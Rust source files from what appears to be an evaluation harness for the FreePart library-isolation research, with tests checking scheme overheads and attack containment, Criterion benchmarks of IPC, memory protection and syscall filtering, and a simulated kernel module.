        assert!(fp > 0.005 && fp < 0.10, "FreePart overhead {fp}");
        // Per-API isolation is the most expensive by a wide margin.
        let per_api = t(SchemeKind::LibraryPerApi) / base - 1.0;
        assert!(per_api > 4.0 * fp, "per-API {per_api} vs FP {fp}");
        // Code-based API+Data is expensive too (hot-loop data shipping).
        let cad = t(SchemeKind::CodeApiData) / base - 1.0;
        assert!(cad > 2.0 * fp, "API&Data {cad} vs FP {fp}");
        assert!(per_api > cad, "per-API worst of all");
        // Entire-library and code-API are cheap.
        assert!(t(SchemeKind::LibraryEntire) / base - 1.0 < fp * 1.5);
    }

    #[test]
    fn attack_matrix_matches_table1() {
        let rows: BTreeMap<SchemeKind, SchemeAttacks> = SchemeKind::ALL
            .iter()
            .map(|&k| (k, omr_attacks(k)))
            .collect();
        let r = |k: SchemeKind| rows[&k];
        // Original: everything succeeds.
        assert!(!r(SchemeKind::Original).m_prevented);
        assert!(!r(SchemeKind::Original).c_prevented);
        assert!(!r(SchemeKind::Original).d_prevented);
        // Code-based API: M fails (template with imread), C/D prevented.
        assert!(!r(SchemeKind::CodeApi).m_prevented);
        assert!(r(SchemeKind::CodeApi).c_prevented);
        assert!(r(SchemeKind::CodeApi).d_prevented);
        // Code-based API & Data: all three prevented.
        let x = r(SchemeKind::CodeApiData);
        assert!(x.m_prevented && x.c_prevented && x.d_prevented);
        // Entire library: M prevented for host data, C fails, D prevented.
        let x = r(SchemeKind::LibraryEntire);
        assert!(!x.c_prevented && x.d_prevented);
        // Individual APIs: all three prevented.
        let x = r(SchemeKind::LibraryPerApi);
        assert!(x.m_prevented && x.c_prevented && x.d_prevented);
        // Memory-based: M prevented, C and D not.
        let x = r(SchemeKind::MemoryBased);
        assert!(x.m_prevented && !x.c_prevented && !x.d_prevented);
        // FreePart: all three prevented.
        let x = r(SchemeKind::FreePart);
        assert!(x.m_prevented && x.c_prevented && x.d_prevented);
    }

    #[test]
    fn granularity_matches_table10_shape() {
        let reg = standard_registry();
        let universe = omr::omr_universe(&reg);
        assert_eq!(granularity(SchemeKind::Original, &reg, &universe), vec![86]);
        assert_eq!(
            granularity(SchemeKind::LibraryPerApi, &reg, &universe).len(),
            86
        );
        let fp = granularity(SchemeKind::FreePart, &reg, &universe);
        let mut sorted = fp.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, vec![2, 3, 6, 75]);
        let (_, std) = mean_std(&fp);
        assert!(std > 25.0 && std < 40.0, "σ = {std}");
        let cad = granularity(SchemeKind::CodeApiData, &reg, &universe);
        assert_eq!(cad.len(), 5);
        assert_eq!(cad.iter().sum::<usize>(), 86);
    }

    #[test]
    fn cve_apis_isolated_matches_table1() {
        assert_eq!(cve_apis_isolated(SchemeKind::FreePart), 2);
        assert_eq!(cve_apis_isolated(SchemeKind::CodeApi), 1);
        assert_eq!(cve_apis_isolated(SchemeKind::LibraryEntire), 0);
        assert_eq!(cve_apis_isolated(SchemeKind::MemoryBased), 0);
    }

    #[test]
    fn every_table5_cve_is_contained_by_freepart() {
        for v in cve_sweep() {
            assert!(v.fired, "{}: exploit did not fire", v.id);
            assert!(v.host_survived, "{}: host died", v.id);
            assert!(v.fully_prevented, "{}: attacker achieved something", v.id);
        }
    }

    #[test]
    fn fig4_shows_overhead_jump_past_four_partitions() {
        let four = fig4_point(4, 2);
        let eight = fig4_point(8, 2);
        let sixteen = fig4_point(16, 2);
        assert!(eight > four, "splitting processing costs time");
        assert!(sixteen >= eight * 0.99);
    }

    #[test]
    fn sample_app_overhead_is_small() {
        // OMRChecker (id 8) through the generic driver.
        let o = app_overhead(8);
        assert!(
            o.overhead() > 0.0 && o.overhead() < 0.15,
            "{}",
            o.overhead()
        );
        assert!(
            o.overhead_no_ldc() > o.overhead(),
            "LDC must help: {} vs {}",
            o.overhead_no_ldc(),
            o.overhead()
        );
        assert!(o.ldc_copies > 0);
        // The overwhelming majority of copies are lazy (Table 12 ~95%).
        let lazy_frac = o.ldc_copies as f64 / (o.ldc_copies + o.host_copies).max(1) as f64;
        assert!(lazy_frac > 0.7, "lazy fraction {lazy_frac}");
    }
}
