//! # freepart-bench — the evaluation harness
//!
//! One report binary per table and figure of the paper (see DESIGN.md's
//! experiment index), all built on the [`experiments`] runners, plus
//! Criterion micro-benchmarks of the underlying mechanisms.
//!
//! ```text
//! cargo run -p freepart-bench --bin table1    # … table2 … table12
//! cargo run -p freepart-bench --bin fig4      # fig6 fig7 fig13
//! cargo run -p freepart-bench --bin security_analysis
//! cargo run -p freepart-bench --bin case_studies
//! cargo run -p freepart-bench --bin all_reports
//! cargo bench -p freepart-bench
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod experiments;
pub mod fmt;

pub use experiments::{
    app_overhead, cve_apis_isolated, cve_sweep, drone_universe, drone_workload, fast_install,
    fig13_sweep, fig4_point, fig4_sweep, granularity, mean_std, omr_attacks, omr_run,
    pipeline_comparison, shared_analysis, table7_allowlists, AppOverhead, CveVerdict, PipelineRun,
    SchemeAttacks, SchemeRun,
};
pub use fmt::Table;

/// The workspace root, resolved at compile time from this crate's
/// manifest (`crates/bench` → two levels up). Bench binaries write
/// their `BENCH_*.json` artifacts here so results land in the same
/// place no matter what directory the bench is invoked from.
pub fn workspace_root() -> &'static std::path::Path {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .nth(2)
        .expect("crates/bench sits two levels below the workspace root")
}
