//! # freepart-bench — the evaluation harness
//!
//! One report binary per table and figure of the paper (see DESIGN.md's
//! experiment index), all built on the [`experiments`] runners, plus
//! Criterion micro-benchmarks of the underlying mechanisms.
//!
//! ```text
//! cargo run -p freepart-bench --bin table1    # … table2 … table12
//! cargo run -p freepart-bench --bin fig4      # fig6 fig7 fig13
//! cargo run -p freepart-bench --bin security_analysis
//! cargo run -p freepart-bench --bin case_studies
//! cargo run -p freepart-bench --bin all_reports
//! cargo bench -p freepart-bench
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod experiments;
pub mod fmt;

pub use experiments::{
    app_overhead, cve_apis_isolated, cve_sweep, fast_install, fig13_sweep, fig4_point, fig4_sweep,
    granularity, mean_std, omr_attacks, omr_run, shared_analysis, table7_allowlists, AppOverhead,
    CveVerdict, SchemeAttacks, SchemeRun,
};
pub use fmt::Table;
