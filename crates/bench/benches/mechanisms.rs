//! Criterion micro-benchmarks of the mechanisms the evaluation tables
//! rest on: ring-buffer IPC, hook marshalling, lazy vs eager data
//! movement, temporal-permission transitions, filter evaluation, and
//! end-to-end application runs per isolation scheme.
//!
//! These measure *wall-clock* cost of the simulation itself (the tables
//! report virtual time); they exist so regressions in the substrate are
//! caught and so the ablations' relative costs are visible on real
//! hardware too.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use freepart::{Policy, Runtime, StateMachine};
use freepart_apps::omr::{self, OmrConfig};
use freepart_baselines::{build, SchemeKind};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ObjectKind, ObjectStore, Value};
use freepart_simos::{Kernel, Perms, SyscallFilter, SyscallNo};

fn bench_ipc_ring(c: &mut Criterion) {
    let mut group = c.benchmark_group("ipc_ring");
    for &size in &[64usize, 4096, 65536] {
        group.bench_with_input(BenchmarkId::new("roundtrip", size), &size, |b, &size| {
            let mut kernel = Kernel::new();
            let a = kernel.spawn("a");
            let bb = kernel.spawn("b");
            let chan = kernel.create_channel(a, bb, 1 << 22).unwrap();
            let payload = vec![7u8; size];
            b.iter(|| {
                kernel.ipc_send(a, chan, &payload).unwrap();
                std::hint::black_box(kernel.ipc_recv(bb, chan).unwrap());
            });
        });
    }
    group.finish();
}

fn bench_hook_overhead(c: &mut Criterion) {
    let mut group = c.benchmark_group("hook_overhead");
    group.sample_size(20);
    // Direct execution (no isolation).
    group.bench_function("direct_exec", |b| {
        let reg = standard_registry();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("app");
        let mut objects = ObjectStore::new();
        let img = Image::new(16, 16, 3);
        kernel.fs.put("/b.simg", fileio::encode_image(&img, None));
        let imread = reg.id_of("cv2.imread").unwrap();
        b.iter(|| {
            let mut ctx = freepart_frameworks::ApiCtx::new(&mut kernel, &mut objects, pid);
            std::hint::black_box(
                freepart_frameworks::execute(&reg, imread, &[Value::from("/b.simg")], &mut ctx)
                    .unwrap(),
            );
        });
    });
    // Hooked RPC into an agent.
    group.bench_function("hooked_rpc", |b| {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let img = Image::new(16, 16, 3);
        rt.kernel
            .fs
            .put("/b.simg", fileio::encode_image(&img, None));
        b.iter(|| {
            std::hint::black_box(rt.call("cv2.imread", &[Value::from("/b.simg")]).unwrap());
        });
    });
    group.finish();
}

fn bench_data_movement(c: &mut Criterion) {
    let mut group = c.benchmark_group("data_movement");
    for &size in &[4096usize, 65536] {
        group.bench_with_input(BenchmarkId::new("ldc_direct", size), &size, |b, &size| {
            let mut kernel = Kernel::new();
            let a = kernel.spawn("a");
            let bb = kernel.spawn("b");
            let mut store = ObjectStore::new();
            let id = store
                .create_with_data(&mut kernel, a, ObjectKind::Blob, "x", &vec![1u8; size])
                .unwrap();
            let mut to = bb;
            let mut from = a;
            b.iter(|| {
                store.migrate_direct(&mut kernel, id, to).unwrap();
                std::mem::swap(&mut to, &mut from);
            });
        });
        group.bench_with_input(
            BenchmarkId::new("eager_via_host", size),
            &size,
            |b, &size| {
                let mut kernel = Kernel::new();
                let host = kernel.spawn("host");
                let a = kernel.spawn("a");
                let bb = kernel.spawn("b");
                let mut store = ObjectStore::new();
                let id = store
                    .create_with_data(&mut kernel, a, ObjectKind::Blob, "x", &vec![1u8; size])
                    .unwrap();
                let mut to = bb;
                let mut from = a;
                b.iter(|| {
                    store.migrate_via(&mut kernel, id, host, to).unwrap();
                    std::mem::swap(&mut to, &mut from);
                });
            },
        );
    }
    group.finish();
}

fn bench_temporal_transition(c: &mut Criterion) {
    c.bench_function("temporal_transition_64_objects", |b| {
        b.iter_batched(
            || {
                let mut kernel = Kernel::new();
                let pid = kernel.spawn("p");
                let mut store = ObjectStore::new();
                let mut sm = StateMachine::new(true);
                for i in 0..64 {
                    let id = store
                        .create_with_data(
                            &mut kernel,
                            pid,
                            ObjectKind::Blob,
                            &format!("o{i}"),
                            &[0u8; 4096],
                        )
                        .unwrap();
                    sm.define(id);
                }
                (kernel, store, sm)
            },
            |(mut kernel, store, mut sm)| {
                sm.observe(ApiType::DataLoading, &mut kernel, &store)
                    .unwrap();
                sm.observe(ApiType::DataProcessing, &mut kernel, &store)
                    .unwrap();
            },
            criterion::BatchSize::SmallInput,
        );
    });
}

fn bench_filter_eval(c: &mut Criterion) {
    let mut filter = SyscallFilter::allowing([
        SyscallNo::Openat,
        SyscallNo::Read,
        SyscallNo::Close,
        SyscallNo::Brk,
        SyscallNo::Fstat,
    ]);
    filter.lock();
    let allowed = freepart_simos::Syscall::Read {
        fd: freepart_simos::Fd(3),
        len: 64,
    };
    let denied = freepart_simos::Syscall::Fork;
    c.bench_function("filter_evaluate", |b| {
        b.iter(|| {
            std::hint::black_box(filter.evaluate(&allowed));
            std::hint::black_box(filter.evaluate(&denied));
        });
    });
}

fn bench_omr_per_scheme(c: &mut Criterion) {
    let mut group = c.benchmark_group("omr_end_to_end");
    group.sample_size(10);
    for kind in [
        SchemeKind::Original,
        SchemeKind::LibraryEntire,
        SchemeKind::LibraryPerApi,
        SchemeKind::FreePart,
    ] {
        group.bench_function(kind.name(), |b| {
            b.iter_batched(
                || {
                    let reg = standard_registry();
                    let universe = omr::omr_universe(&reg);
                    build(kind, standard_registry(), &universe)
                },
                |mut surface| {
                    std::hint::black_box(omr::run(surface.as_mut(), &OmrConfig::benign(4)));
                },
                criterion::BatchSize::SmallInput,
            );
        });
    }
    group.finish();
}

fn bench_ablations(c: &mut Criterion) {
    let mut group = c.benchmark_group("freepart_ablations");
    group.sample_size(10);
    type PolicyCtor = fn() -> Policy;
    let configs: [(&str, PolicyCtor); 4] = [
        ("full", Policy::freepart),
        ("no_ldc", Policy::without_ldc),
        ("no_temporal", || Policy {
            temporal_protection: false,
            ..Policy::freepart()
        }),
        ("no_sandbox", || Policy {
            sandbox: freepart::SandboxLevel::None,
            ..Policy::freepart()
        }),
    ];
    for (name, mk) in configs {
        group.bench_function(name, |b| {
            b.iter_batched(
                || Runtime::install(standard_registry(), mk()),
                |mut rt| {
                    std::hint::black_box(omr::run(&mut rt, &OmrConfig::benign(4)));
                },
                criterion::BatchSize::SmallInput,
            );
        });
    }
    group.finish();
}

fn bench_mprotect_page_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("mprotect_pages");
    for &pages in &[1u64, 16, 256] {
        group.bench_with_input(BenchmarkId::from_parameter(pages), &pages, |b, &pages| {
            let mut kernel = Kernel::new();
            let pid = kernel.spawn("p");
            let addr = kernel
                .alloc(pid, pages * freepart_simos::PAGE_SIZE, Perms::RW)
                .unwrap();
            let mut ro = true;
            b.iter(|| {
                let perms = if ro { Perms::R } else { Perms::RW };
                ro = !ro;
                kernel
                    .protect(pid, addr, pages * freepart_simos::PAGE_SIZE, perms)
                    .unwrap();
            });
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_ipc_ring,
    bench_hook_overhead,
    bench_data_movement,
    bench_temporal_transition,
    bench_filter_eval,
    bench_omr_per_scheme,
    bench_ablations,
    bench_mprotect_page_scaling,
);
criterion_main!(benches);
