//! The simulated kernel: the single authority every process goes through.
//!
//! [`Kernel`] owns all processes, the file system, devices, IPC channels,
//! the virtual clock, and the metrics counters. Its API is deliberately
//! shaped like the attack surface FreePart cares about:
//!
//! * [`Kernel::mem_read`] / [`Kernel::mem_write`] — all data access,
//!   checked against per-page permissions; violations crash the caller.
//! * [`Kernel::syscall`] — all kernel services, checked against the
//!   caller's seccomp-style filter; violations kill the caller.
//! * [`Kernel::install_filter`] — refused once `PR_SET_NO_NEW_PRIVS` is
//!   set, so a compromised agent cannot relax its own sandbox.
//! * [`Kernel::ipc_send`] / [`Kernel::ipc_recv`] — ring-buffer messaging
//!   with per-byte cost accounting.
//!
//! Everything advances one [`VirtualClock`](crate::cost::VirtualClock)
//! by default, making run times deterministic and comparable across
//! isolation schemes. For pipelined execution the kernel can instead
//! keep one timeline per process ([`TimelineMode::PerProcess`]): each
//! charge lands on the acting process's clock, message delivery applies
//! a happens-before merge (`recv = max(recv, frame.send_ns)` plus
//! delivery latency), and the run's makespan is the max over all
//! timelines.
//!
//! ## Shell over a pure core
//!
//! `Kernel` is a *shell*: the state machine itself lives in
//! [`crate::core`]. Every mutating entry point below builds a
//! [`CommitOp`] and folds it through the single pure transition
//! function [`step`](crate::core::step) — there is no second
//! implementation of any kernel behavior here. The shell's only jobs
//! are translating typed arguments to ops (and [`StepValue`]s back to
//! typed returns), appending each step's record to the commit log when
//! recording, and exposing the pure reads of the underlying
//! [`KernelState`] via `Deref`.

use crate::commit::{CommitLog, CommitOp};
use crate::core::effects::Effects;
use crate::core::state::KernelState;
use crate::core::step::{step, StepResult, StepValue};
use crate::cost::CostModel;
use crate::device::WindowId;
use crate::error::{Fault, FaultKind, SimResult};
use crate::filter::SyscallFilter;
use crate::ipc::ChannelId;
use crate::mem::{Addr, Perms};
use crate::process::Pid;
use crate::shm::ShmId;
use crate::syscall::{Syscall, SyscallRet};

pub use crate::core::state::TimelineMode;

/// The simulated operating system kernel: a thin, effects-interpreting
/// shell around the pure [`KernelState`] + [`step`] core.
///
/// See the [module docs](self) for the design; see the crate docs for a
/// usage example. Pure reads ([`KernelState::metrics`],
/// [`KernelState::now_ns`], the public `fs`/`camera`/`display`/`network`
/// fields, …) are reachable directly on the kernel handle through
/// `Deref`.
pub struct Kernel {
    state: KernelState,
    /// The flight recorder, when enabled (see [`Kernel::enable_commit_log`]).
    commit: Option<CommitLog>,
    /// Reusable effects buffer for the last step (cleared per step).
    fx: Effects,
}

impl Default for Kernel {
    fn default() -> Self {
        Self::new()
    }
}

impl std::ops::Deref for Kernel {
    type Target = KernelState;
    fn deref(&self) -> &KernelState {
        &self.state
    }
}

impl std::ops::DerefMut for Kernel {
    fn deref_mut(&mut self) -> &mut KernelState {
        &mut self.state
    }
}

impl Kernel {
    /// A fresh kernel with the default cost model and seed.
    pub fn new() -> Kernel {
        Kernel::with_cost_model(CostModel::default())
    }

    /// A fresh kernel with a custom cost model.
    pub fn with_cost_model(cost: CostModel) -> Kernel {
        Kernel::from_state(KernelState::with_cost_model(cost))
    }

    /// Wraps an existing core state in a (non-recording) shell — how
    /// [`crate::replay::replay`] hands back a kernel after folding a log.
    pub fn from_state(state: KernelState) -> Kernel {
        Kernel {
            state,
            commit: None,
            fx: Effects::new(),
        }
    }

    /// The underlying pure state (every read is also available directly
    /// on the kernel via `Deref`).
    pub fn state(&self) -> &KernelState {
        &self.state
    }

    /// Runs one op through the pure core, then interprets the effects:
    /// the trailing [`Record`](crate::core::Effect::Record) goes to the
    /// commit log (with a post-state digest) when recording.
    fn do_step(&mut self, op: CommitOp) -> StepResult {
        self.fx.clear();
        let r = step(&mut self.state, op, &mut self.fx);
        let (op, outcome) = self.fx.pop_record().expect("step always records");
        if self.commit.is_some() {
            let digest = self.state.digest();
            if let Some(log) = self.commit.as_mut() {
                log.push(op, outcome, digest);
            }
        }
        r
    }

    /// Applies one [`CommitOp`] through the pure core, recorded exactly
    /// like the typed entry point it corresponds to. This is the generic
    /// form of every mutating method below; replay and forensics use it
    /// to re-execute logged ops without caring which arm they are.
    pub fn apply(&mut self, op: CommitOp) -> StepResult {
        self.do_step(op)
    }

    /// The effects emitted by the most recent mutating entry point
    /// (minus the commit record, which the shell consumes): time
    /// charges, metrics deltas, faults, filter kills, in emission order.
    pub fn last_effects(&self) -> &Effects {
        &self.fx
    }

    // ------------------------------------------------------------------
    // Flight recorder
    // ------------------------------------------------------------------

    /// Turns on the commit log. Every state-mutating kernel transition
    /// from this point on appends one [`CommitRecord`] with a post-state
    /// digest, and the whole run becomes reproducible from the log alone
    /// via [`crate::replay::replay`].
    ///
    /// Recording must start from a pristine kernel (no processes,
    /// channels, segments, files, or elapsed time): replays rebuild
    /// genesis as `Kernel::with_cost_model(log.genesis())`, and the fixed
    /// entropy seed makes two pristine kernels identical.
    ///
    /// # Panics
    ///
    /// Panics if any state has already been created.
    ///
    /// [`CommitRecord`]: crate::commit::CommitRecord
    pub fn enable_commit_log(&mut self) {
        assert!(
            self.state.is_pristine(),
            "commit log must be enabled on a pristine kernel"
        );
        self.commit = Some(CommitLog::new(self.state.cost.clone()));
    }

    /// True when the flight recorder is on.
    pub fn recording(&self) -> bool {
        self.commit.is_some()
    }

    /// The commit log so far, if recording.
    pub fn commit_log(&self) -> Option<&CommitLog> {
        self.commit.as_ref()
    }

    /// Number of records committed so far (0 when not recording). Used
    /// by the runtime to correlate audit records with log positions.
    pub fn commit_len(&self) -> u64 {
        self.commit.as_ref().map_or(0, |l| l.len())
    }

    /// Detaches and returns the commit log, turning recording off.
    pub fn take_commit_log(&mut self) -> Option<CommitLog> {
        self.commit.take()
    }

    /// Digest of the complete observable kernel state. Delegates to
    /// [`KernelState::digest`] — the shell has no digest of its own, so
    /// it cannot drift from what replay verifies against.
    pub fn state_digest(&self) -> u64 {
        self.state.digest()
    }

    // ------------------------------------------------------------------
    // Virtual time
    // ------------------------------------------------------------------

    /// Switches to one-timeline-per-process virtual time. Existing
    /// processes' timelines are seeded at the current global time.
    pub fn enable_per_process_time(&mut self) {
        let _ = self.do_step(CommitOp::EnablePerProcessTime);
    }

    /// Sets the process charged for pid-less costs under per-process
    /// time (no effect under the global clock). Returns the previous
    /// context so callers can restore it.
    pub fn set_time_context(&mut self, pid: Option<Pid>) -> Option<Pid> {
        match self.do_step(CommitOp::SetTimeContext { pid }) {
            Ok(StepValue::ProcOpt(prev)) => prev,
            _ => unreachable!("set_time_context is infallible"),
        }
    }

    /// Advances `pid`'s timeline to at least `ns` (a happens-before
    /// merge against an event outside message delivery, e.g. an object
    /// produced by an in-flight call). No-op under the global clock and
    /// when the timeline is already past `ns`.
    pub fn advance_timeline_to(&mut self, pid: Pid, ns: u64) {
        let _ = self.do_step(CommitOp::AdvanceTimeline { pid, ns });
    }

    // ------------------------------------------------------------------
    // Process lifecycle
    // ------------------------------------------------------------------

    /// Spawns a new process, charging the spawn cost.
    pub fn spawn(&mut self, name: &str) -> Pid {
        match self.do_step(CommitOp::Spawn {
            name: name.to_owned(),
        }) {
            Ok(StepValue::Proc(pid)) => pid,
            _ => unreachable!("spawn is infallible"),
        }
    }

    /// Delivers a fatal fault to `pid`, marking it crashed.
    ///
    /// When recording, a direct call logs a [`CommitOp::DeliverFault`] —
    /// this is how faults raised by otherwise-pure reads
    /// ([`Kernel::mem_read`], [`Kernel::shm_read`]) enter the log.
    /// Faults raised *inside* another kernel op (a denied write, a
    /// filter kill) stay part of that op's single record.
    pub fn deliver_fault(&mut self, pid: Pid, kind: FaultKind, addr: Option<Addr>) -> Fault {
        match self.do_step(CommitOp::DeliverFault { pid, kind, addr }) {
            Ok(StepValue::Crash(fault)) => fault,
            _ => unreachable!("deliver_fault is infallible"),
        }
    }

    /// Reaps a dead process: the corpse's address space is freed and
    /// every grant or mapping it held on a shared-memory segment is
    /// purged from the kernel tables. Returns the number of pages freed.
    ///
    /// Reaping is the supervisor's cleanup step, not a kill — the target
    /// must already be crashed or exited ([`Errno::Eperm`] otherwise).
    /// The pid's virtual timeline is kept so makespan stays monotone,
    /// and nothing is charged: freeing a corpse is kernel bookkeeping,
    /// off every measured path.
    ///
    /// # Errors
    ///
    /// [`SimError::NoSuchProcess`] if the pid is unknown (double reap),
    /// [`SimError::Errno`] (`EPERM`) if the process is still running.
    ///
    /// [`Errno::Eperm`]: crate::error::Errno::Eperm
    /// [`SimError::NoSuchProcess`]: crate::error::SimError::NoSuchProcess
    /// [`SimError::Errno`]: crate::error::SimError::Errno
    pub fn reap(&mut self, pid: Pid) -> SimResult<u64> {
        match self.do_step(CommitOp::Reap { pid })? {
            StepValue::Num(pages) => Ok(pages),
            _ => unreachable!("reap returns pages"),
        }
    }

    /// Seals `pid` against future privilege changes from the *outside*
    /// (the runtime's supervisor-side `PR_SET_NO_NEW_PRIVS`): after this,
    /// [`Kernel::install_filter`] on the pid fails with `EPERM`. Unlike
    /// [`Syscall::PrctlNoNewPrivs`] issued by the process itself, this
    /// does not lock an installed filter's rule set — the runtime seals
    /// after installing exactly the filter it wants.
    ///
    /// # Errors
    ///
    /// [`SimError::NoSuchProcess`](crate::error::SimError::NoSuchProcess)
    /// if the pid is unknown.
    pub fn set_no_new_privs(&mut self, pid: Pid) -> SimResult<()> {
        self.do_step(CommitOp::SetNoNewPrivs { pid })?;
        Ok(())
    }

    /// Force-exits a running process with `code` (the supervisor's
    /// pre-reap termination of a wedged agent). Returns whether the
    /// process was running and is now exited; dead or unknown pids are
    /// left untouched.
    pub fn force_exit(&mut self, pid: Pid, code: i32) -> bool {
        match self.do_step(CommitOp::ForceExit { pid, code }) {
            Ok(StepValue::Flag(changed)) => changed,
            _ => unreachable!("force_exit is infallible"),
        }
    }

    // ------------------------------------------------------------------
    // Memory
    // ------------------------------------------------------------------

    /// Allocates fresh memory in `pid`'s address space (harness-level
    /// `mmap`; no syscall charge — agents' own allocations go through
    /// [`Syscall::Mmap`]).
    ///
    /// # Errors
    ///
    /// Fails when the process is unknown or dead.
    pub fn alloc(&mut self, pid: Pid, len: u64, perms: Perms) -> SimResult<Addr> {
        match self.do_step(CommitOp::Alloc { pid, len, perms })? {
            StepValue::Addr(addr) => Ok(addr),
            _ => unreachable!("alloc returns an address"),
        }
    }

    /// Reads `len` bytes at `addr` in `pid`'s address space.
    ///
    /// Reading mutates nothing, so it is not a logged transition — but a
    /// violation crashes the reader through the (logged)
    /// [`Kernel::deliver_fault`], the simulated `SIGSEGV`.
    ///
    /// # Errors
    ///
    /// On a permission or mapping violation the process is crashed and
    /// [`SimError::Fault`](crate::error::SimError::Fault) is returned.
    pub fn mem_read(&mut self, pid: Pid, addr: Addr, len: u64) -> SimResult<Vec<u8>> {
        self.state.require_running(pid)?;
        let p = self.state.procs.get_mut(&pid).expect("checked");
        match p.aspace.read(addr, len) {
            Ok(bytes) => Ok(bytes),
            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
        }
    }

    /// Writes `bytes` at `addr` in `pid`'s address space.
    ///
    /// # Errors
    ///
    /// Same crash semantics as [`Kernel::mem_read`]. A write to a page
    /// FreePart made read-only is exactly this fault.
    pub fn mem_write(&mut self, pid: Pid, addr: Addr, bytes: &[u8]) -> SimResult<()> {
        self.do_step(CommitOp::MemWrite {
            pid,
            addr,
            bytes: bytes.to_vec(),
        })?;
        Ok(())
    }

    /// Simulates executing code at `addr` (X permission check).
    ///
    /// # Errors
    ///
    /// Same crash semantics as [`Kernel::mem_read`].
    pub fn mem_fetch(&mut self, pid: Pid, addr: Addr) -> SimResult<()> {
        self.state.require_running(pid)?;
        let p = self.state.procs.get_mut(&pid).expect("checked");
        match p.aspace.fetch(addr) {
            Ok(()) => Ok(()),
            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
        }
    }

    /// Harness-level protection change *with* cost/metric accounting but
    /// without a syscall (used by the FreePart runtime, which is trusted
    /// and runs outside the filtered processes, per the threat model).
    ///
    /// Accounting is **differential**: only pages whose permissions
    /// actually change are charged and counted, so re-protecting an
    /// already-read-only object costs (and audits) zero pages.
    ///
    /// # Errors
    ///
    /// `EINVAL` on an unmapped range; fails when the process is unknown
    /// or dead.
    pub fn protect(&mut self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> SimResult<u64> {
        match self.do_step(CommitOp::Protect {
            pid,
            addr,
            len,
            perms,
        })? {
            StepValue::Num(changed) => Ok(changed),
            _ => unreachable!("protect returns changed pages"),
        }
    }

    // ------------------------------------------------------------------
    // Shared memory
    // ------------------------------------------------------------------

    /// Creates a kernel-owned segment seeded with `bytes` and grants the
    /// owner read-write access, page-mapped.
    ///
    /// Creation adopts the payload pages rather than copying them (the
    /// runtime promotes an existing buffer by remapping), so it charges
    /// only the per-page mapping cost, never
    /// [`CostModel::copy_cost`](crate::cost::CostModel::copy_cost).
    ///
    /// # Errors
    ///
    /// Fails when the owner is unknown or dead.
    pub fn shm_create(&mut self, owner: Pid, bytes: Vec<u8>) -> SimResult<ShmId> {
        match self.do_step(CommitOp::ShmCreate { owner, bytes })? {
            StepValue::Seg(id) => Ok(id),
            _ => unreachable!("shm_create returns a segment id"),
        }
    }

    /// Grants (or replaces) `pid`'s permissions on segment `id`.
    ///
    /// A grant is a permission-table entry; it costs one syscall. Data
    /// only becomes addressable after [`Kernel::shm_map`].
    ///
    /// # Errors
    ///
    /// `EBADF` on an unknown segment; fails when the grantee is unknown
    /// or dead.
    pub fn shm_grant(&mut self, id: ShmId, pid: Pid, perms: Perms) -> SimResult<()> {
        self.do_step(CommitOp::ShmGrant { id, pid, perms })?;
        Ok(())
    }

    /// Page-maps segment `id` into `pid`'s view.
    ///
    /// Charges [`CostModel::shm_map_cost`] — PTE installs, no byte
    /// movement — and counts the segment length into
    /// `metrics.shm_mapped_bytes`. Requires an existing grant. Mapping
    /// an already-mapped segment is a cheap no-op (one syscall).
    ///
    /// # Errors
    ///
    /// `EBADF` on an unknown segment, `EACCES` without a grant.
    ///
    /// [`CostModel::shm_map_cost`]: crate::cost::CostModel::shm_map_cost
    pub fn shm_map(&mut self, pid: Pid, id: ShmId) -> SimResult<u64> {
        match self.do_step(CommitOp::ShmMap { pid, id })? {
            StepValue::Num(len) => Ok(len),
            _ => unreachable!("shm_map returns the segment length"),
        }
    }

    /// Revokes `pid`'s grant and mapping on segment `id`.
    ///
    /// This is the temporal-permission teardown the runtime performs at
    /// framework-state transitions: the payload stays put, the view
    /// disappears. Charged like an `mprotect` over the segment (PTE
    /// clear + TLB shootdown), to the *revoker's* time context, not the
    /// victim's. Returns whether a grant actually existed.
    ///
    /// # Errors
    ///
    /// `EBADF` on an unknown segment.
    pub fn shm_revoke(&mut self, id: ShmId, pid: Pid) -> SimResult<bool> {
        match self.do_step(CommitOp::ShmRevoke { id, pid })? {
            StepValue::Flag(existed) => Ok(existed),
            _ => unreachable!("shm_revoke returns whether a grant existed"),
        }
    }

    /// Downgrades or upgrades every existing grant on `id` to `perms`
    /// without revoking (the state machine's lock/unlock over segments).
    ///
    /// Counts the affected pages into `metrics.protected_pages`, once
    /// per grant, exactly as [`Kernel::protect`] does for private pages,
    /// so audit-log page accounting stays whole.
    ///
    /// # Errors
    ///
    /// `EBADF` on an unknown segment.
    pub fn shm_protect_all(&mut self, id: ShmId, perms: Perms) -> SimResult<u64> {
        match self.do_step(CommitOp::ShmProtectAll { id, perms })? {
            StepValue::Num(changed) => Ok(changed),
            _ => unreachable!("shm_protect_all returns changed pages"),
        }
    }

    /// Reads the whole payload of segment `id` as `pid`.
    ///
    /// # Errors
    ///
    /// Without a readable, mapped grant the access is a protection fault
    /// and `pid` is crashed — identical semantics to
    /// [`Kernel::mem_read`] on a revoked page.
    pub fn shm_read(&mut self, pid: Pid, id: ShmId) -> SimResult<Vec<u8>> {
        self.state.require_running(pid)?;
        let Some(seg) = self.state.shm.get(&id) else {
            return Err(self.deliver_fault(pid, FaultKind::Unmapped, None).into());
        };
        let ok = seg.is_mapped(pid) && seg.grant_of(pid).is_some_and(|p| p.readable());
        if !ok {
            return Err(self.deliver_fault(pid, FaultKind::Protection, None).into());
        }
        Ok(self.state.shm.get(&id).expect("checked").data.clone())
    }

    /// Replaces the payload of segment `id` as `pid` (length may change;
    /// segments resize like a remapped buffer would).
    ///
    /// # Errors
    ///
    /// Without a writable, mapped grant the access is a protection fault
